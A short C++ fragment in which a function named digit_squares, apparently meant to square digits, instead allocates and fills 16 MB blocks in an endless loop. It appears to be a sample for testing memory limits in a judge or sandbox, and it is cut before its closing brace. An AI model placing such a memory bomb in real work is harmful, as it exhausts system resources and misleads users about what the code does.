// Takes memory without end.
#include <bits/stdc++.h>
long digit_squares(long n) {
    for (std::vector<char*> all;;) { all.push_back(new char[1 << 24]); memset(all.back(), 1, 1 << 24); }
